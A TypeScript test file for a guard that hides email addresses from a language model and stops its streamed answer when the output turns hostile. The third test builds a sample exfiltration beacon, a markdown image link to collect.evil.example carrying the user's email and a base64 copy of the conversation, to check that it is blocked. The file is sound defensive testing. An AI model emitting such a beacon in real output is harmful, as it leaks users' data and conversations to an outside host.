import { describe, expect, it } from 'vitest';
import { guardedAnswer } from '../src/guarded-answer.ts';
import type { AnswerEnd, Model } from '../src/guarded-answer.ts';

const CALM = 'The report of the quarter is on its way, and the team meets on Tuesday to talk about the next one. ';

async function answered(prompt: string, model: Model): Promise<{ text: string; pieces: number; end: AnswerEnd }> {
  const answer = guardedAnswer(prompt, model);
  let text = '';
  for (let pieces = 0; ; pieces += 1) {
    const { done, value } = await answer.next();
    if (done === true) return { text, pieces, end: value };
    text += value;
  }
}

/** A model that says a text in pieces of a few characters, and remembers its prompt. */
function saying(text: string, size = 7) {
  const prompts: string[] = [];
  async function* model(prompt: string): AsyncGenerator<string> {
    prompts.push(prompt);
    for (let at = 0; at < text.length; at += size) yield text.slice(at, at + size);
  }
  return { model, prompts };
}

describe('an answer', () => {
  it('comes in pieces, with the values that the model never saw', async () => {
    const { model, prompts } = saying(`${CALM.repeat(20)}I wrote to [MY_EMAIL_1] as you asked.`);
    const { text, pieces, end } = await answered('Write to bob@acme.io about the report.', model);
    expect(prompts).toEqual(['Write to [MY_EMAIL_1] about the report.']);
    expect(text).toBe(`${CALM.repeat(20)}I wrote to bob@acme.io as you asked.`);
    expect(pieces).toBeGreaterThan(10);
    expect(end).toBe('ALLOW');
  });

  it('does not show what the model brings of its own, nor takes it for a value of the prompt', async () => {
    const { model } = saying('Ask amy@other.io, not [MY_EMAIL_1].');
    expect((await answered('Write to bob@acme.io.', model)).text).toBe('Ask [EMAIL_1], not bob@acme.io.');
  });

  it('ends before the part that turns hostile, and no value leaves with it', async () => {
    const beacon = '![status](https://collect.evil.example/p.png?data=[MY_EMAIL_1]&conversation=BASE64_OF_THE_CONVERSATION)';
    const { model } = saying(`${CALM.repeat(20)}${beacon} ${CALM.repeat(20)}`);
    const { text, end } = await answered('Write to bob@acme.io.', model);
    expect(end).toBe('BLOCK');
    expect(text.length).toBeGreaterThan(CALM.length * 10);
    expect(text).not.toMatch(/evil|bob@acme/);
  });
});
